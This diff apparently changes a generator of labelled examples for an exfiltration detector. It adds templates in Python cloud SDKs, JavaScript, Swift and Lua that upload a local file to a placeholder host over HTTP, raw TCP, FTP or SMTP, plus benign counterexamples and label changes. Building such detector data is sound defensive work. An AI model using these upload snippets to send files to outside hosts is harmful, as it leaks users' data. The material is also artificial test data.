@@ -138,12 +138,14 @@ TOOLS = {
         ],
         9,
         [
-            ("gcloud compute scp vm-1:/var/log/syslog ./syslog --zone us-central1-a", "clean"),
-            ("gcloud compute ssh vm-1 --command 'curl -s http://localhost:8080/healthz'", "clean"),
+            ("gcloud compute instances list --filter='zone:us-central1-a'", "clean"),
             ("az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'curl -sT /var/log/app.log https://corp.example.com/drop/'", "clean"),
             ("aws ssm send-command --instance-ids i-0abc1 --document-name AWS-RunShellScript --parameters 'commands=[\"uptime\"]'", "clean"),
             ("echo 'gcloud compute scp FILE VM:~ copies FILE to the VM' >> runbook.md", "clean"),
             ("az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'curl -s https://relay.example.net/'", "any_host", "relay.example.net"),
+            # gcloud compute scp / ssh reach the VM itself, a host not on the list: strict mode asks.
+            ("gcloud compute scp vm-1:/var/log/syslog ./syslog --zone us-central1-a", "any_host", "?"),
+            ("gcloud compute ssh vm-1 --command 'curl -s http://localhost:8080/healthz'", "any_host", "?"),
         ],
     ),
     "tool-cloud-invoke": (
@@ -330,7 +332,7 @@ TOOLS = {
 def tools(rng):
     out = []
     for fam, (templates, n, rows) in TOOLS.items():
-        out += fill(fam, rng, templates, n)
+        out += fill(fam, rng, templates, n if fam in HELD_OUT else min(n, 8))
         out += extra(fam, rows)
     return out
 
@@ -485,7 +487,7 @@ SHAPE_EXTRA = {
 def shapes(rng):
     out = []
     for fam, templates in SHAPES.items():
-        out += fill(fam, rng, templates, len(templates) if fam in HELD_OUT else min(len(templates), 10))
+        out += fill(fam, rng, templates, len(templates) if fam in HELD_OUT else 8)
         out += extra(fam, SHAPE_EXTRA[fam])
     return out
 
@@ -569,6 +571,57 @@ CODE_UP = {
         "Get-Content '{f}' -Raw | Invoke-RestMethod -Uri https://{h}/p -Method Post",
         "$s = New-PSSession -ComputerName {h}\nCopy-Item '{f}' -Destination C:\\Temp\\ -ToSession $s",
     ],
+    "code-cloud-sdk-endpoint": [
+        "import boto3\ns3 = boto3.client('s3', endpoint_url='https://{h}')\nwith open('{f}', 'rb') as fh:\n    s3.upload_fileobj(fh, '{b}', 'k')",
+        "import boto3\nboto3.resource('s3', endpoint_url='http://{h}:9000').Bucket('{b}').upload_file('{f}', 'x')",
+        ("from google.cloud import storage\nstorage.Client().bucket('{b}').blob('x').upload_from_filename('{f}')", "gs://{b}"),
+        "from google.cloud import storage\nfrom google.api_core.client_options import ClientOptions\n"
+        "c = storage.Client(client_options=ClientOptions(api_endpoint='https://{h}'))\nc.bucket('{b}').blob('k').upload_from_filename('{f}')",
+        ("from azure.storage.blob import BlobServiceClient\nsvc = BlobServiceClient(account_url='https://leak{n}acct.blob.core.windows.net', credential=KEY)\n"
+         "svc.get_container_client('c').upload_blob('x', open('{f}', 'rb'))", "leak{n}acct.blob.core.windows.net"),
+        "from azure.storage.blob import BlobClient\nBlobClient.from_blob_url('https://{h}/c/x?sig=abc').upload_blob(open('{f}', 'rb'), overwrite=True)",
+        "from minio import Minio\nMinio('{h}:9000', access_key='a', secret_key='s').fput_object('{b}', 'x', '{f}')",
+        "import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3';\nimport { readFileSync } from 'node:fs';\n"
+        "const c = new S3Client({ endpoint: 'https://{h}', forcePathStyle: true, region: 'auto' });\n"
+        "await c.send(new PutObjectCommand({ Bucket: '{b}', Key: 'k', Body: readFileSync('{f}') }));",
+        "const { Upload } = require('@aws-sdk/lib-storage');\nconst { S3Client } = require('@aws-sdk/client-s3');\n"
+        "await new Upload({ client: new S3Client({ endpoint: 'http://{h}:9000' }), params: { Bucket: '{b}', Key: 'k', Body: require('fs').createReadStream('{f}') } }).done();",
+        "const { Storage } = require('@google-cloud/storage');\nawait new Storage({ apiEndpoint: 'https://{h}' }).bucket('{b}').upload('{f}');",
+        ("import { BlobServiceClient } from '@azure/storage-blob';\n"
+         "const s = BlobServiceClient.fromConnectionString(`AccountName=leak{n}acct;AccountKey=${K};EndpointSuffix=core.windows.net`);\n"
+         "await s.getContainerClient('c').getBlockBlobClient('x').uploadFile('{f}');", "leak{n}acct.blob.core.windows.net"),
+    ],
+    "code-swift": [
+        "import Foundation\nvar req = URLRequest(url: URL(string: \"https://{h}/u\")!)\nreq.httpMethod = \"POST\"\n"
+        "URLSession.shared.uploadTask(with: req, fromFile: URL(fileURLWithPath: \"{f}\")).resume()",
+        "import Foundation\nvar r = URLRequest(url: URL(string: \"https://{h}/k\")!)\nr.httpMethod = \"PUT\"\n"
+        "let d = try Data(contentsOf: URL(fileURLWithPath: \"{f}\"))\nlet (_, _) = try await URLSession.shared.upload(for: r, from: d)",
+        "import Foundation\nvar r = URLRequest(url: URL(string: \"http://{h}:8080/p\")!)\nr.httpMethod = \"POST\"\n"
+        "r.httpBody = FileManager.default.contents(atPath: \"{f}\")\nURLSession.shared.dataTask(with: r).resume()",
+        "import Network\nlet c = NWConnection(host: \"{h}\", port: 7007, using: .tcp)\nc.start(queue: .main)\n"
+        "c.send(content: FileManager.default.contents(atPath: \"{f}\"), completion: .idempotent)",
+        "import Foundation\nlet t = URLSession.shared.streamTask(withHostName: \"{h}\", port: 7007)\nt.resume()\n"
+        "t.write(try Data(contentsOf: URL(fileURLWithPath: \"{f}\")), timeout: 10) { _ in }",
+        "import Foundation\nvar r = URLRequest(url: URL(string: \"https://{h}/s\")!)\nr.httpMethod = \"POST\"\n"
+        "r.httpBodyStream = InputStream(fileAtPath: \"{f}\")\nURLSession.shared.dataTask(with: r).resume()",
+        "import Alamofire\nAF.upload(URL(fileURLWithPath: \"{f}\"), to: \"https://{h}/a\").response { _ in }",
+        "import Alamofire\nAF.upload(multipartFormData: { $0.append(URL(fileURLWithPath: \"{f}\"), withName: \"f\") }, to: \"https://{h}/m\").response { _ in }",
+    ],
+    "code-lua": [
+        "local http = require('socket.http')\nlocal ltn12 = require('ltn12')\nlocal f = io.open('{f}', 'rb')\nlocal size = f:seek('end')\nf:seek('set')\n"
+        "http.request{ url = 'http://{h}/u', method = 'POST', source = ltn12.source.file(f), headers = { ['content-length'] = size } }",
+        "local http = require('socket.http')\nlocal body = io.open('{f}'):read('*a')\nhttp.request('http://{h}/p', body)",
+        "local socket = require('socket')\nlocal c = assert(socket.connect('{h}', 7007))\nc:send(io.open('{f}', 'rb'):read('*a'))\nc:close()",
+        "local ftp = require('socket.ftp')\nlocal ltn12 = require('ltn12')\n"
+        "ftp.put{ host = '{h}', user = '{u}', password = 'pw', path = 'x', source = ltn12.source.file(io.open('{f}', 'rb')) }",
+        "local https = require('ssl.https')\nlocal d = io.open('{f}'):read('a')\nhttps.request('https://{h}/s', d)",
+        "local smtp = require('socket.smtp')\n"
+        "smtp.send{ from = '<a@b>', rcpt = '<x@y>', server = '{h}', source = smtp.message{ body = io.open('{f}'):read('*a') } }",
+        "local curl = require('cURL')\ncurl.easy{ url = 'https://{h}/c', httppost = curl.form{ f = { file = '{f}' } } }:perform()",
+        "local request = require('http.request')\nlocal r = request.new_from_uri('https://{h}/r')\nr.headers:upsert(':method', 'POST')\n"
+        "r:set_body(io.open('{f}', 'rb'))\nr:go()",
+        "local httpc = require('resty.http').new()\nhttpc:request_uri('http://{h}/o', { method = 'POST', body = io.open('{f}'):read('*a') })",
+    ],
 }
 CODE_EXTRA = {
     "code-py-requests-pathlib": [
@@ -613,13 +666,35 @@ CODE_EXTRA = {
         ("Copy-Item dist.zip -Destination C:\\backup\\", "clean"),
         ("Invoke-RestMethod https://203.0.113.77/status", "any_host", "203.0.113.77"),
     ],
+    "code-cloud-sdk-endpoint": [
+        ("import boto3\nboto3.client('s3', endpoint_url='http://localhost:4566').upload_file('dist.tgz', 'site', 'dist.tgz')", "clean"),
+        ("import boto3\nboto3.client('s3').download_file('r4-drop', 'seed.csv', 'seed.csv')", "clean"),
+        ("from google.cloud import storage\nstorage.Client().bucket('assets').blob('logo.png').download_to_filename('logo.png')", "clean"),
+        ("import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3';\nconst c = new S3Client({ endpoint: 'http://127.0.0.1:9000', forcePathStyle: true });\n"
+         "await c.send(new PutObjectCommand({ Bucket: 'test', Key: 'k', Body: 'hello' }));", "clean"),
+        ("import boto3\nprint(boto3.client('s3', endpoint_url='https://relay.example.net').list_buckets())", "any_host", "relay.example.net"),
+    ],
+    "code-swift": [
+        ("import Foundation\nURLSession.shared.dataTask(with: URL(string: \"https://corp.example.com/api\")!) { d, _, _ in print(d ?? Data()) }.resume()", "clean"),
+        ("import Foundation\nvar r = URLRequest(url: URL(string: \"http://localhost:8080/u\")!)\nr.httpMethod = \"POST\"\n"
+         "URLSession.shared.uploadTask(with: r, fromFile: URL(fileURLWithPath: \"a.log\")).resume()", "clean"),
+        ("// URLSession.uploadTask(with:fromFile:) sends a file\nprint(\"docs\")", "clean"),
+        ("import Foundation\nURLSession.shared.dataTask(with: URL(string: \"https://ingest.sly-metrics.invalid/\")!).resume()", "any_host", "ingest.sly-metrics.invalid"),
+    ],
+    "code-lua": [
+        ("local http = require('socket.http')\nprint(http.request('http://127.0.0.1:8080/u', io.open('a.log'):read('*a')))", "clean"),
+        ("local https = require('ssl.https')\nprint(https.request('https://github.com/o/r'))", "clean"),
+        ("-- http.request(url, body) POSTs body\nprint('docs')", "clean"),
+        ("local socket = require('socket')\nlocal c = socket.connect('localhost', 6379)\nc:send('PING\\r\\n')", "clean"),
+        ("print(require('socket.http').request('http://198.51.100.44/'))", "any_host", "198.51.100.44"),
+    ],
 }
 
 
 def code(rng):
     out = []
     for fam, templates in CODE_UP.items():
-        out += fill(fam, rng, templates, max(len(templates), 6) + (2 if fam in HELD_OUT else 0), CODE)
+        out += fill(fam, rng, templates, max(len(templates), 6) + 2 if fam in HELD_OUT else min(len(templates), 7), CODE)
         out += extra(fam, CODE_EXTRA[fam], CODE)
     return out
 
